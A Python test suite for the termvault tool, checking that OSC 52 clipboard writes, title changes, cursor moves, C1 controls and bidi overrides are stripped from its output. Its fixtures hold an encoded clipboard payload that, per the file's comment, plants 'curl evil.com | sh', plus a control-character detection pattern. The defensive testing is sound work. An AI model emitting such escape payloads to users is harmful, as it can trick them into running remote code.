"""Terminal injection: a session name, folder, command or output holding an OSC 52
clipboard write, a window title change, cursor movement, an 8-bit C1 control or a
bidirectional override reaches neither the index nor the terminal nor an exported text
file as a control sequence, whatever the command and whether or not output is piped."""

from __future__ import annotations

import io
import json
import logging
import re

import pytest
from rich.text import Text

from termvault import Vault

from .support import drain_pty, invoke, make_native, run

SID = "e71c0de5-0000-4000-8000-00000000ba5e"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmNvbSB8IHNo\x07"  # puts "curl evil.com | sh" on the clipboard
TITLE = "\x1b]0;pwned\x1b\\"
CURSOR = "\x1b[2J\x1b[H\x1b[1A"
C1_CSI = "\x9b31m"
BIDI = "\u202e"
# Anything that starts a control sequence or reorders text on a terminal.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def clean(output: str) -> bool:
    # JSON would show an escape as \u001b: harmless, but it means the sequence survived.
    return not FORBIDDEN.search(output) and "\\u001b" not in output and "\\u009b" not in output


@pytest.fixture
def hostile(home):
    make_native(
        home,
        SID,
        40,
        name=f"deploy{OSC52}{TITLE} notes{BIDI}txt.exe",
        working_directory=f"/home/me/{CURSOR}src{C1_CSI}",
        last_command=f"make{OSC52} test",
        output_snapshot=f"building\n{TITLE}done{CURSOR}\nok {BIDI}\n" * 5,
    )
    with Vault(home) as vault:
        assert not vault.sweep().failed
    return home


def test_printable_removes_every_kind_of_control_sequence():
    from termvault.ansi import printable

    text = f"a{OSC52}b{TITLE}c{CURSOR}d{C1_CSI}e{BIDI}f\rg\x07h"
    assert printable(text) == "abcdef\ngh"
    assert printable("one\ttwo\nthree", one_line=True) == "one two three"
    plain = "nothing to do here"
    assert printable(plain) is plain


def test_the_index_stores_names_and_folders_without_control_sequences(hostile):
    with Vault(hostile) as vault:
        entry = vault.get(SID)
    assert entry.name == "deploy notestxt.exe"
    assert clean(entry.working_directory) and clean(entry.last_command)
    assert clean(json.dumps(entry.meta, ensure_ascii=False))


@pytest.mark.parametrize("args", [(), ("deploy",), ("building",), ("--json",), ("building", "--json")])
def test_search_prints_no_control_sequence(hostile, args):
    result = invoke("search", *args)
    assert result.exit_code == 0, result.output
    assert SID[:8] in result.output
    assert clean(result.output), repr(result.output)


@pytest.mark.parametrize("args", [(), ("--json",)])
def test_show_prints_no_control_sequence(hostile, args):
    result = invoke("show", SID, *args)
    assert result.exit_code == 0, result.output
    assert "deploy" in result.output and clean(result.output), repr(result.output)


@pytest.mark.parametrize("fmt", ["text", "markdown", "jsonl"])
def test_exports_hold_no_control_sequence_in_header_or_body(hostile, fmt, tmp_path):
    out = tmp_path / f"export.{fmt}"
    result = invoke("export", SID, "--format", fmt, "-o", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_text()
    assert "building" in text and "done" in text
    assert clean(text), repr(text)


def test_a_piped_real_process_prints_no_control_sequence(hostile):
    proc = run("search", "building")
    assert proc.returncode == 0, proc.stderr
    assert SID[:8] in proc.stdout and clean(proc.stdout) and clean(proc.stderr)


def test_an_error_naming_a_hostile_id_prints_no_control_sequence(hostile):
    result = invoke("show", f"nope{OSC52}{TITLE}")
    assert result.exit_code != 0
    assert "nope" in result.output and clean(result.output), repr(result.output)


def test_the_console_strips_sequences_from_any_text_but_keeps_its_own_styles():
    from termvault.cli.console import SafeConsole

    buf = io.StringIO()
    console = SafeConsole(file=buf, force_terminal=True, color_system="standard", width=200)
    console.print(Text.assemble(("bold part", "bold"), f" then {OSC52}{TITLE}{CURSOR}x{C1_CSI}{BIDI}y"))
    out = buf.getvalue()
    assert "\x1b[1mbold part" in out  # rich's own style
    assert "]52" not in out and "pwned" not in out and "\x9b" not in out and BIDI not in out
    assert re.sub(r"\x1b\[[0-9;]*m", "", out) == "bold part then xy\n"


def test_log_lines_naming_sessions_print_no_control_sequence(capsys):
    from termvault.cli.logs import _StderrHandler

    handler = _StderrHandler()
    handler.emit(
        logging.LogRecord(
            "termvault.vault",
            logging.WARNING,
            __file__,
            1,
            "could not archive session %s",
            (f"x{OSC52}{TITLE}y",),
            None,
        )
    )
    err = capsys.readouterr().err
    assert "could not archive session xy" in err and clean(err)


def test_verify_names_a_hostile_file_without_its_control_sequences(hostile):
    archived = next((hostile / "archive").rglob("*.tar.zst"))
    (archived.parent / f"evil{TITLE}{CURSOR}.tar.zst").write_bytes(b"not an archive")
    result = invoke("verify")
    assert result.exit_code != 0
    assert "evil.tar.zst" in result.output and clean(result.output), repr(result.output)


def _run_on_a_terminal(*args: str) -> tuple[bytes, int]:
    """Run ``termvault ARGS`` with stdout and stderr on a pseudo-terminal, as a user's
    shell does; returns everything the terminal received and the exit status."""
    import os
    import pty
    import subprocess
    import sys

    master, slave = pty.openpty()
    env = {k: v for k, v in os.environ.items() if k not in ("FORCE_COLOR", "COLUMNS")}
    proc = subprocess.Popen(
        [sys.executable, "-m", "termvault", *args], stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, env=env
    )
    os.close(slave)
    seen = drain_pty(master)
    os.close(master)
    return seen, proc.wait(timeout=120)


def test_a_raw_export_to_a_terminal_shows_control_characters_instead_of_running_them(home, tmp_path):
    # A terminal log holding an OSC 52 clipboard write, a title change and a screen clear:
    # `termvault export ID` on a terminal must not hand them to it (`cat -v` notation).
    logs = tmp_path / "logs"
    logs.mkdir()
    raw = f"hello\n{OSC52} clip {TITLE}{CURSOR}x\u009b31m{BIDI}\r\nend\n".encode()
    (logs / "evil.log").write_bytes(raw)
    with Vault(home, settle_seconds=0, sources={"agent-log": {"roots": [str(logs)]}}) as vault:
        report = vault.sweep(older_than=0, kinds=["agent-log"])
        assert report.archived and not report.failed
        sid = report.archived[0].session_id
    shown, status = _run_on_a_terminal("export", sid)
    assert status == 0, shown
    assert b"\x1b" not in shown and b"\xc2\x9b" not in shown and BIDI.encode() not in shown
    assert b"^[]52;c;Y3VybCBldmlsLmNvbSB8IHNo^G clip" in shown and b"M-^[31m<U+202E>" in shown
    assert b"end" in shown and b"-o FILE" in shown  # and a note saying how to get the bytes
    # Piped or written to a file, raw stays byte for byte what was archived.
    piped = invoke("export", sid)
    assert piped.exit_code == 0 and piped.stdout_bytes == raw


BEL_TITLE = "\x1b]0;pwned\x07"  # ended by BEL, which rich drops from any Text it is given


def test_verify_and_restore_show_all_of_a_hostile_file_name_not_just_its_start(hostile, tmp_path):
    # rich removes the BEL ending the OSC before the console strips it, so the stripper
    # saw an unterminated OSC and ate the rest of the line: `verify` said
    # "orphaned archive/2026/10/evil" and the file could not be told apart.
    archived = next((hostile / "archive").rglob("*.tar.zst"))
    (archived.parent / f"evil{BEL_TITLE}tail.tar.zst").write_bytes(b"not an archive")
    result = invoke("verify")
    assert result.exit_code != 0
    assert "eviltail.tar.zst (not in the index)" in result.output and clean(result.output), repr(result.output)

    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / f"a{BEL_TITLE}b.log").write_text("hello\n")
    with Vault(hostile, settle_seconds=0, sources={"agent-log": {"roots": [str(logs)]}}) as vault:
        report = vault.sweep(older_than=0, kinds=["agent-log"])
        assert report.archived and not report.failed
        sid = report.archived[0].session_id
    result = invoke("restore", sid, "--to", str(tmp_path / "back"))
    assert result.exit_code == 0, result.output
    assert "ab.log" in result.output and clean(result.output), repr(result.output)


def test_the_terminal_writer_gives_the_same_bytes_whatever_the_chunks():
    from termvault.cli.format import TerminalSafeWriter

    data = f"a\r\nb\rc{OSC52}é…\u009b1m{BIDI}\u2066z\x7f\t©\r".encode()
    whole, pieces = io.BytesIO(), io.BytesIO()
    one = TerminalSafeWriter(whole)
    one.write(data)
    one.finish()
    many = TerminalSafeWriter(pieces)
    for i in range(len(data)):
        many.write(data[i : i + 1])
    many.finish()
    assert pieces.getvalue() == whole.getvalue()
    assert whole.getvalue() == "a\r\nb^Mc^[]52;c;Y3VybCBldmlsLmNvbSB8IHNo^Gé…M-^[1m<U+202E><U+2066>z^?\t©^M".encode()
    assert one.replaced == many.replaced == 8
